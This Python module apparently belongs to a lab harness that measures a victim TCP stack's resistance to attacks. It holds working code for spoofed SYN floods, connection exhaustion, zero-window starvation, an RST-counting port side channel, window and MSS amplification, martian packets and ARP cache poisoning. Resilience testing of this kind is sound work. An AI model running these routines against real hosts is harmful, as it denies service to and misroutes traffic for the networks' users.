"""The attacks: each is a function that runs in the attacker's namespace and returns what it saw.

`result` is what the table shows. All loops are bounded by a number or a time.
"""

import multiprocessing
import multiprocessing.pool
import random
import select
import socket
import struct
import time

from subjects import SERVICES
from wire import (
    ACK, ARP, ATTACKER, FIN, IPV4, IPV6, RST, SYN, VICTIM, Peer, Segment, Wire,
    address_of_nobody, arp, checksum, echo_request, mss, tcp,
)

ECHO, CHARGEN = SERVICES["echo"], SERVICES["chargen"]
MANY = 20_000
MANY_UNREAD = 5_000


def milliseconds(seconds):
    return "never" if seconds is None else f"{seconds * 1e3:,.0f} ms" if seconds >= 0.01 \
        else f"{seconds * 1e3:.1f} ms"


def try_to_connect(patience, service=ECHO, source=None):
    """A kernel client: seconds until it was connected and until it was served, and repeated SYNs."""
    client = socket.socket()
    client.settimeout(patience)
    begun = time.monotonic()
    try:
        client.bind((source or ATTACKER, 0))
        client.connect((VICTIM, service))
        connected = time.monotonic() - begun
        # tcpi_total_retrans of linux/tcp.h
        repeated = struct.unpack_from("I", client.getsockopt(socket.IPPROTO_TCP, 11, 104), 100)[0]
        client.settimeout(max(patience - connected, 0.1))
        if service == ECHO:
            client.send(b"hello")
        return connected, time.monotonic() - begun if client.recv(5) else None, repeated
    except OSError:
        return None, None, None
    finally:
        client.close()


def newcomers(service=ECHO, patience=4):
    """What becomes of nine new clients."""
    with multiprocessing.pool.ThreadPool(9) as pool:
        seen = pool.starmap(try_to_connect, [(patience, service)] * 9)
    return sorted(served for _, served, _ in seen if served is not None)


def flood(seconds, count, victim, rate):
    """Sends SYNs of nobody, so many a second or as fast as it can; puts their number per second into
    `count`."""
    wire = Wire(receives=False)
    wire.victim = victim
    source = random.Random(1)
    frames = [
        wire.frame(tcp(address_of_nobody(source.randrange(62_500)), VICTIM,
                       (source.randrange(1024, 65536), ECHO), SYN, seq=source.randrange(1 << 32),
                       options=mss(1460)))
        for _ in range(20_000)
    ]
    count.value = -1
    begun, sent = time.monotonic(), 0
    while (now := time.monotonic()) < begun + seconds:
        for _ in range(100):
            wire.put(frames[sent % len(frames)])
            sent += 1
        if rate:
            time.sleep(max(begun + sent / rate - time.monotonic(), 0))
    count.value = sent / (now - begun)


def syn_flood(rate=None):
    wire = Wire()
    wire.find_victim()
    count = multiprocessing.Value("d", 0)
    flooding = multiprocessing.Process(target=flood, args=(14, count, wire.victim, rate))
    flooding.start()
    while count.value == 0:
        time.sleep(0.05)
    time.sleep(2)
    with multiprocessing.pool.ThreadPool(9) as pool:
        clients = []
        for _ in range(9):
            clients.append(pool.apply_async(try_to_connect, (8,)))
            time.sleep(0.4)
        seen = [client.get() for client in clients]
    flooding.join()
    at_once = sum(repeated == 0 and served is not None for _, served, repeated in seen)
    served = sorted(served for _, served, _ in seen if served is not None)
    slowest = milliseconds(served[-1]) if served else "none served"
    return {"result": f"{at_once} of 9 at once, {len(served)} served, slowest {slowest}",
            "syns_per_second": round(count.value), "served_seconds": served}


def moderate_flood():
    return syn_flood(rate=50_000)


def half_open():
    wire = Wire()
    for number in range(129):
        wire.send(tcp(address_of_nobody(number), VICTIM, (2000 + number, ECHO), SYN,
                      seq=number, options=mss(1460)))
    time.sleep(0.5)
    _, served, repeated = try_to_connect(40)
    after = f"after {milliseconds(served)}" if served is not None else "not within 40 s"
    return {"result": after, "repeated_syns": repeated}


def parallel_connects():
    clients, took, waiting = {}, [], select.epoll()
    for _ in range(1000):
        client = socket.socket()
        client.setblocking(False)
        client.connect_ex((VICTIM, ECHO))
        clients[client.fileno()] = client, time.monotonic()
        waiting.register(client, select.EPOLLOUT | select.EPOLLONESHOT)
    end = time.monotonic() + 20
    while len(took) < 1000 and time.monotonic() < end:
        for descriptor, _ in waiting.poll(1):
            client, begun = clients[descriptor]
            failed = client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            took.append(20 if failed else time.monotonic() - begun)
    took.sort()
    took += [20] * (1000 - len(took))
    half, most = milliseconds(took[500]), milliseconds(took[990])
    return {"result": f"median {half}, p99 {most}", "p50_seconds": took[500], "p99_seconds": took[990]}


def fate(count, of, service=ECHO):
    """The result of an attack with many connections, and what becomes of newcomers."""
    served = newcomers(service)
    slowest = f", slowest {milliseconds(served[-1])}" if served else ""
    return {"result": f"{count:,} of {of:,} accepted; {len(served)} of 9 newcomers served{slowest}",
            "accepted": count, "newcomers_seconds": served}


def connect_idle(number, held, alive, finished):
    """Opens connections of kernel clients, 200 at a time, counts them, and holds them until all others
    have opened theirs; then counts how many of every hundredth are served."""
    clients, refused, end, failures = [], [], time.monotonic() + 60, 0
    while len(clients) < number and time.monotonic() < end and failures < 3:
        batch, waiting = {}, select.epoll()
        for _ in range(min(200, number - len(clients))):
            client = socket.socket()
            client.setblocking(False)
            client.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
            client.bind((f"10.9.0.{11 + len(clients) // 2000 % 5}", 0))
            client.connect_ex((VICTIM, ECHO))
            batch[client.fileno()] = client
            waiting.register(client, select.EPOLLOUT | select.EPOLLONESHOT)
        before, last = len(clients), time.monotonic() + 4
        while batch and time.monotonic() < last:
            for descriptor, _ in waiting.poll(0.2):
                client = batch.pop(descriptor)
                if client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    clients.append(client)
        refused += batch.values()  # they go on trying
        failures = 0 if len(clients) > before else failures + 1
    with held.get_lock():
        held.value += len(clients)
    finished.wait()
    for client in clients[::100]:
        client.settimeout(0.5)
        try:
            client.send(b"x")
            served = client.recv(1) == b"x"
        except OSError:
            served = False
        with alive.get_lock():
            alive.value += served
    finished.wait()


def idle(vanishing=0):
    """Connections of kernel clients that say nothing, from processes each of which has half of them, and
    beside them clients that vanish."""
    wire = Wire()
    wire.find_victim()
    held, alive = (multiprocessing.Value("i", 0) for _ in range(2))
    finished = multiprocessing.Barrier(3)
    workers = [multiprocessing.Process(target=connect_idle, args=(MANY // 2, held, alive, finished))
               for _ in range(2)]
    for worker in workers:
        worker.start()
    finished.wait()
    gone = len(open_many(wire, vanishing, ECHO))
    seen = fate(held.value + gone, MANY + vanishing)
    finished.wait()
    for worker in workers:
        worker.join()
    return seen | {"alive_of_every_hundredth": alive.value}


def open_many(wire, count, service, then=lambda *_: (), seconds=45):
    """Opens connections of nobody, 100 at a time. `then` gives the packets to send once one is open,
    of the client's and the victim's next numbers. Returns the clients by address and port."""
    opened, end, failures = {}, time.monotonic() + seconds, 0
    number = 0
    while number < count and time.monotonic() < end and failures < 5:
        batch = {}
        for index in range(number, min(number + 100, count)):
            key = address_of_nobody(index), 5000 + index % 97
            batch[key] = index
            wire.send(tcp(key[0], VICTIM, (key[1], service), SYN, seq=index, options=mss(1460)))
        number += 100
        failures += 1
        for segment in wire.segments(1):
            key = segment.destination, segment.ports[1]
            if key in batch and segment.flags & SYN:
                index = batch.pop(key)
                numbers = (key[1], service), index + 1, segment.end()
                opened[key] = numbers
                wire.send(tcp(key[0], VICTIM, numbers[0], ACK, numbers[1], numbers[2]))
                wire.send(*then(key[0], *numbers))
                failures = 0
            if not batch:
                break
    return opened


def idle_and_vanished():
    return idle(MANY)


def vanished():
    """Clients that open a connection and are never heard of again."""
    return fate(len(open_many(Wire(), MANY, ECHO)), MANY)


def unacknowledged_fin():
    """Clients that close, and never acknowledge that the victim does."""
    def close(source, ports, seq, ack):
        return [tcp(source, VICTIM, ports, FIN | ACK, seq, ack)]
    return fate(len(open_many(Wire(), MANY, ECHO, close)), MANY)


def unread():
    """Clients of chargen that take a first segment and then keep their window shut."""
    wire = Wire()
    clients = open_many(wire, MANY_UNREAD, CHARGEN, lambda source, ports, seq, ack: [
        tcp(source, VICTIM, ports, ACK, seq, ack, window=0)])
    newest = {}
    for segment in wire.segments(3):
        key = segment.destination, segment.ports[1]
        if key in clients and segment.payload:
            ports, seq, _ = clients[key]
            newest[key] = max(newest.get(key, 0), segment.end())
            wire.send(tcp(key[0], VICTIM, ports, ACK, seq, newest[key], window=0))
    return fate(len(clients), MANY_UNREAD, CHARGEN)


def side_channel():
    """An observer guesses which port another host's connection has: it spoofs segments of that host
    with the guess and counts the RSTs that its own segments get afterwards."""
    wire, host, own = Wire(), "10.9.0.11", "10.9.0.12"
    wire.find_victim()
    client = socket.socket()
    client.bind((host, 0))
    client.connect((VICTIM, ECHO))
    used = client.getsockname()[1]

    probes = [wire.frame(tcp(own, VICTIM, (2000 + number, 4000), ACK, seq=1, ack=1))
              for number in range(300)]

    def observe(port):
        """RSTs that the observer gets for its own segments, once it has spoofed some."""
        spoofed = [wire.frame(tcp(host, VICTIM, (port, ECHO), ACK, seq=number * 99991, ack=number))
                   for number in range(1200)]
        time.sleep(1.1)  # so that what was spent is there again
        for frame in spoofed + probes:
            wire.put(frame)
        return sum(bool(segment.flags & RST) and segment.destination == own
                   for segment in wire.segments(0.4))

    unused = lambda: random.choice([port for port in range(33_000, 60_000, 7) if port != used])
    known_used = sum(observe(used) for _ in range(3)) / 3
    known_unused = sum(observe(unused()) for _ in range(3)) / 3
    right, counts = 0, []
    truths = [True] * 6 + [False] * 6
    random.shuffle(truths)
    for truth in truths:
        count = observe(used if truth else unused())
        distance = abs(count - known_used) - abs(count - known_unused)
        guess = distance < 0 if distance else random.random() < 0.5
        right += guess == truth
        counts.append([truth, count])
    client.close()
    return {"result": f"{right} of 12 right", "used": known_used, "unused": known_unused,
            "counts": counts}


def tiny_mss():
    """A client of chargen that advertises an MSS of 1."""
    wire = Wire()
    peer = Peer(wire, address_of_nobody(1), 5001, CHARGEN, options=mss(1))
    if not peer.connect():
        return {"result": "not served"}
    packets, got = 0, 0
    for segment in wire.segments(4):
        if peer.is_mine(segment) and segment.payload:
            packets += 1
            got += segment.payload
            peer.ack = max(peer.ack, segment.end())
            wire.send(peer.segment(ACK))
        if got >= 20_000:
            break
    wire.send(peer.segment(RST))
    return {"result": f"{packets / max(got, 1) * 1000:,.0f} packets per kB", "packets": packets,
            "bytes": got}


def window_flapping():
    """A client of chargen that receives the first window and acknowledges none of it, and advertises a
    window of 0 and of 100 bytes in turn."""
    wire = Wire()
    peer = Peer(wire, address_of_nobody(2), 5002, CHARGEN)
    if not peer.connect():
        return {"result": "not served"}
    for _ in wire.segments(0.1):
        pass
    offered, answered, beyond = 0, 0, 0

    def listen(seconds):
        nonlocal answered, beyond
        for segment in wire.segments(seconds):
            if peer.is_mine(segment):
                answered += segment.total
                beyond = max(beyond, segment.end() - peer.ack - 100)
    for _ in range(500):
        for window in (100, 0):
            packet = peer.segment(ACK, window=window)
            offered += len(packet)
            wire.send(packet)
        listen(0.004)
    listen(0.3)
    wire.send(peer.segment(RST))
    return {"result": f"{answered / offered:.1f} bytes for each byte", "beyond_the_window": beyond}


def repeated_syn():
    wire = Wire()
    peer = Peer(wire, address_of_nobody(3), 5003, ECHO)
    answers = 0
    for _ in range(1000):
        for _ in range(5):
            wire.send(peer.syn())
        answers += sum(peer.is_mine(segment) for segment in wire.segments(0.001))
    answers += sum(peer.is_mine(segment) for segment in wire.segments(1))
    return {"result": f"{answers:,} SYN-ACKs", "answers": answers}


MARTIANS = ["127.0.0.1", "0.0.0.0", "0.1.2.3", "10.9.0.0", "10.9.0.255", VICTIM, "224.0.0.5",
            "240.0.0.1", "255.255.255.255"]


def martians():
    """SYNs and echo requests from invalid source addresses."""
    wire, answered = Wire(), set()
    wire.find_victim()
    for index, source in enumerate(MARTIANS):
        wire.send(tcp(source, VICTIM, (6000 + index, ECHO), SYN, options=mss(1460)))
        wire.send(echo_request(source, VICTIM))
        for kind, data in wire.received(0.25):
            if kind == IPV4 and data[12:16] == socket.inet_aton(VICTIM) \
                    and data[16:20] == socket.inet_aton(source) and data[9] in (1, 6):
                answered.add((source, data[9]))
    return {"result": f"{len(answered)} of {2 * len(MARTIANS)} answered",
            "answered": sorted(map(list, answered))}


def arp_poisoning():
    """An unsolicited ARP reply, sent to all, assigns the address of the victim's neighbour to a station that
    does not exist."""
    wire = Wire()
    wire.find_victim()
    nowhere = b"\2\0\0\0\0\x99"

    def destination():
        """The station that the answer to an echo request goes to."""
        wire.send(echo_request(ATTACKER, VICTIM))
        for kind, frame in wire.frames_received(0.25):
            if kind == IPV4 and frame[23] == 1 and frame[26:30] == socket.inet_aton(VICTIM):
                return frame[:6]
        return None

    for _ in range(20):
        if destination() == wire.own:
            break
    else:
        return {"result": "no answer before"}
    time.sleep(2)
    poison = arp(2, nowhere, ATTACKER, b"\xff" * 6, ATTACKER, b"\xff" * 6)
    wire.put(poison)
    begun, poisoned, last = time.monotonic(), False, 0
    while time.monotonic() < begun + 60:
        now = time.monotonic() - begun
        to = destination()
        if to == wire.own and now > 1.5 and now - last > 1.5:
            break
        if to != wire.own:
            poisoned, last = True, now
        time.sleep(0.1)
    return {"result": f"{last:.0f} s" if poisoned else "0 s", "seconds": last}


# Name: function, what the table says, service, bound in seconds, how the victim is reached.
ATTACKS = {
    "syn-flood": (syn_flood, "SYN flood at the highest rate; 9 kernel clients", "echo", 60, ""),
    "moderate-flood": (moderate_flood, "SYN flood of 50,000 a second; 9 kernel clients", "echo", 60, ""),
    "half-open": (half_open, "129 half-open connections; a client", "echo", 60, ""),
    "parallel-connects": (parallel_connects, "1,000 simultaneous connects", "echo", 60, ""),
    "idle": (idle, "20,000 idle connections", "echo", 120, ""),
    "vanished": (vanished, "20,000 clients that connect and vanish", "echo", 90, ""),
    "idle-and-vanished": (idle_and_vanished, "both of these together", "echo", 180, ""),
    "unacknowledged-fin": (unacknowledged_fin, "20,000 clients that never acknowledge a FIN", "echo", 90, ""),
    "unread": (unread, "5,000 clients of chargen that never read", "chargen", 90, ""),
    "side-channel": (side_channel, "guess from RSTs which port is in use (12 trials; chance: 6)", "echo",
                     60, ""),
    "tiny-mss": (tiny_mss, "a peer with an MSS of 1", "chargen", 30, "no offload"),
    "window-flapping": (window_flapping, "a window that opens and closes 500 times", "chargen", 30,
                        "no offload"),
    "repeated-syn": (repeated_syn, "a SYN repeated 5,000 times", "echo", 30, ""),
    "martians": (martians, "TCP and ICMP from invalid source addresses", "echo", 30, ""),
    "arp": (arp_poisoning, "an unsolicited ARP reply: cache poisoned for", "echo", 90, "packet"),
}
